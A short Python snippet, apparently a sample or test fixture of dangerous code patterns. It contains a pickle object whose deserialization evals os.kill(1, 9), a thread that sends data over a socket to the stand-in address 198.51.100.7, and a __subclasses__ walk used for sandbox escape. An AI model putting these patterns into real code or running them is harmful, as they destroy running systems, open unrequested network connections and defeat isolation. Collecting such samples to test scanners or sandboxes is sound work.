import pickle
import threading
import socket


class Job:
    def __reduce__(self):
        return (eval, ("__import__('os').kill(1, 9)",))


pickle.loads(pickle.dumps(Job()))


def send(host, port, data):
    with socket.create_connection((host, port)) as connection:
        connection.sendall(data)


threading.Thread(target=send, args=("198.51.100.7", 443, b"x")).start()
().__class__.__base__.__subclasses__()
